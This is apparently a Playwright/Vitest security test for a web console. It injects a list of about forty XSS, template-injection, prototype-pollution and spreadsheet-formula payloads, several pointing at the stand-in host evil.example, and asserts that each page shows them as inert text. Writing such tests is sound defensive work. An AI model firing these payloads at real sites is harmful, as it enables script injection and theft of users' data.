import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { closePages, startBrowser } from "../edge/harness/chromium.ts";
import { buyerNamed, offerOf, serveConsole, type Served } from "./harness.ts";
import { isTooWide, type Opened, signedIn } from "./page.ts";

const runs = "window.hit=1";

const hostile: readonly string[] = [
  `<script>${runs}</script>`,
  `<img src=x onerror=${runs}>`,
  `<svg onload=${runs}>`,
  `<svg><script>${runs}</script></svg>`,
  `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<body onload=${runs}>`,
  `<details open ontoggle=${runs}>`,
  `<video><source onerror=${runs}></video>`,
  `<input autofocus onfocus=${runs}>`,
  `<a href="javascript:${runs}">press</a>`,
  `javascript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `"><script>${runs}</script>`,
  `'><script>${runs}</script>`,
  `" onmouseover="${runs}`,
  `' onmouseover='${runs}`,
  `</title><script>${runs}</script>`,
  `</textarea><script>${runs}</script>`,
  `</style><script>${runs}</script>`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<base href=http://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<form action=http://evil.example><input name=key></form>`,
  `<object data=http://evil.example/x>`,
  `<embed src=http://evil.example/x>`,
  `<math><mtext><script>${runs}</script></mtext></math>`,
  `<!--><script>${runs}</script>-->`,
  `<![CDATA[<script>${runs}</script>]]>`,
  `{{constructor.constructor('${runs}')()}}`,
  `\${${runs}}`,
  `#{${runs}}`,
  `<%= ${runs} %>`,
  `%3Cscript%3E${runs}%3C/script%3E`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `&#60;script&#62;${runs}&#60;/script&#62;`,
  `__proto__`,
  `constructor`,
  `hasOwnProperty`,
  `=HYPERLINK("http://evil.example","x")`,
  `\u202Egnp.tset`,
  `a\u200Bb\u200Cc\uFEFFd`,
  `${"W".repeat(200)}`,
  `${"\u0301".repeat(60)}a`,
];

let seller: Served;
let browser: Browser;
let opened: Opened;
const ids: Record<string, string> = {};

beforeAll(async () => {
  seller = await serveConsole();
  const { send } = seller;
  for (const [at, name] of hostile.entries()) {
    await send("operator", "create_api_key", { seat_id: `seat-${at}`, seat_name: name, label: name });
    await send("anonymous", "create_api_key", { agency_id: `claimed-${at}`, agency_name: name, label: name });
  }
  const buyer = await buyerNamed(seller, hostile[0] ?? "");
  ids["approval"] = await offerOf(seller, buyer);
  const order = await send(buyer, "create_order", {});
  const change = { order_id: order["order_id"], change_type: "other", reason: hostile.join(" ").slice(0, 3000) };
  const proposed_values = Object.fromEntries(hostile.slice(0, 8).map((text, at) => [`field ${at}`, text]));
  ids["change"] = String(
    (await send(buyer, "create_change_request", { ...change, proposed_values }))["change_request_id"],
  );
  ids["session"] = String((await send(buyer, "create_session", {}))["session_id"]);
  for (const text of hostile.slice(0, 12)) {
    await send(buyer, "send_session_message", { session_id: ids["session"], type: "query", content: { text } });
  }
  browser = await startBrowser();
  opened = await signedIn(browser, seller, "/console/");
});
afterAll(async () => {
  await closePages(browser);
  await seller.close();
});

test("there are at least forty of them", () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(40));

test.each([
  "home",
  "approvals",
  "approvals/{approval}",
  "approvals?kind=api_key",
  "changes",
  "changes/{change}",
  "talks/{session}",
  "buyers",
  "keys",
  "events",
  "audit",
  "deals?q=%3Cscript%3Ewindow.hit%3D1%3C%2Fscript%3E&status=%22%3E%3Cimg%20src=x%20onerror=window.hit=1%3E",
  "approvals/%3Cscript%3Ewindow.hit=1%3C%2Fscript%3E",
])("%s shows hostile text as text: nothing runs, nothing is asked elsewhere", async (path) => {
  const { page, heard } = opened;
  const address = path.replace(/\{(\w+)\}/, (_whole, name: string) => encodeURIComponent(ids[name] ?? ""));
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(new URL(`/console/${address}`, seller.url).href);
  await page.locator("h1:visible").first().waitFor();
  await expect.poll(() => page.locator(".skeleton").count()).toBe(0);
  expect(await page.evaluate("window.hit")).toBeUndefined();
  const made = "#console :is(script, img, iframe, object, embed, link, meta, base, style, video, math)";
  expect(await page.locator(made).count()).toBe(0);
  expect(await page.locator('#console a[href^="javascript:"], #console a[href^="data:"]').count()).toBe(0);
  expect(await isTooWide(page)).toBe(false);
  expect(heard.filter((line) => !line.includes("status of 404") && !line.includes("status of 422"))).toEqual([]);
});

test("a name of invisible characters is shown with question marks, and clipped", async () => {
  const { page } = opened;
  await page.goto(new URL("/console/keys", seller.url).href);
  await page.getByText("?gnp.tset").first().waitFor();
  await page.getByText("a?b?c?d").first().waitFor();
  await page
    .getByText(`${"W".repeat(79)}…`)
    .first()
    .waitFor();
});
